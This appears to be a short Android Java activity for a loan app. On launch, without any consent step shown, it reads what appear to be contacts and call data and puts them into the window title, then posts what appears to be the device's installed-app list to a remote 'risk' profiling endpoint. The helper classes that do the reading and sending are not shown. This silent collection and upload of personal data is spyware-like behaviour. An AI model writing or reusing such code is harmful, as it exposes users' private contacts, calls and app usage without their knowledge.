package example.loans;

import android.app.Activity;
import android.os.Bundle;

public class Main extends Activity {
    private static final String HOST = "https://risk.lender.example/v1/profile";

    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        setTitle(Data.contact(this) + Data.call(this));
        Post.send(HOST, Data.apps(this));
    }
}
